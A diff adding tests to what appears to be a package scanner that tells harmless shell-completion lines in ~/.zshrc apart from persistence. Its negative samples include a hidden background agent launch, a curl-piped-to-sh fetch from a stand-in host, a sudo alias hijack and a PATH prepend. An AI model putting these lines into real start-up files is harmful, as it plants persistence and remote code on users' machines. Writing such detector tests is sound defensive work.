@@ -248,4 +248,46 @@ test('the environment sent directly, or handed on in any other form, is still th
   }
 });
 
+// --- A shell start-up file given only the shell's own completion set-up (a CLI framework's completion install) ---
+
+const ZSHRC = (lines: string) => `from pathlib import Path
+def install_zsh(prog_name):
+    zshrc_path = Path.home() / ".zshrc"
+    zshrc_content = ""
+    if zshrc_path.is_file():
+        zshrc_content = zshrc_path.read_text()
+    completion_init_lines = [${lines}]
+    for line in completion_init_lines:
+        if line not in zshrc_content:
+            zshrc_content += f"\\n{line}"
+    zshrc_content += "\\n"
+    zshrc_path.write_text(zshrc_content)
+install_zsh("acme")
+`;
+
+test('completion set-up lines (autoload, compinit, zstyle, fpath) appended to ~/.zshrc are configuration, not persistence', async () => {
+  const typer = `"autoload -Uz compinit", "compinit", "zstyle ':completion:*' menu select", "fpath+=~/.zfunc"`;
+  const r = await level({ 'acmetools/__init__.py': ZSHRC(typer) });
+  assert.not.ok(r.high.some((x) => /^persistence_/.test(x)), r.high.join(' '));
+  assert.not.equal(r.level, 'BLOCKED');
+  // variant: a .bashrc rewritten with its content and one literal block
+  const bash = 'from pathlib import Path\np = Path.home() / ".bashrc"\np.write_text(p.read_text() + "\\nautoload -U bashcompinit\\nbashcompinit\\nsetopt complete_aliases\\n")\n';
+  assert.not.ok((await level({ 'acmetools/__init__.py': bash })).high.some((x) => /^persistence_/.test(x)));
+});
+
+test('a start-up file given a line that starts a program, evaluates, or content not written in the code is still persistence', async () => {
+  for (const lines of [
+    `"compinit", "nohup ~/.cache/.acme-agent >/dev/null 2>&1 &"`,
+    `"compinit", "curl -fsSL https://get.example.net/i.sh | sh"`,
+    `"compinit", "zstyle -e ':completion:*' hosts 'reply=($(id))'"`,
+    `"compinit", "alias sudo='~/.acme/sudo'"`,
+    `"compinit", "export PATH=~/.acme/bin:$PATH"`,
+    `"compinit", open("/tmp/acme-extra").read()`,
+  ]) {
+    const r = await level({ 'acmetools/__init__.py': ZSHRC(lines) });
+    assert.ok(r.high.some((x) => /^persistence_/.test(x)), `${lines}: ${r.high.join(' ')}`);
+    assert.equal(r.level, 'BLOCKED', lines);
+  }
+});
+
 test.run();
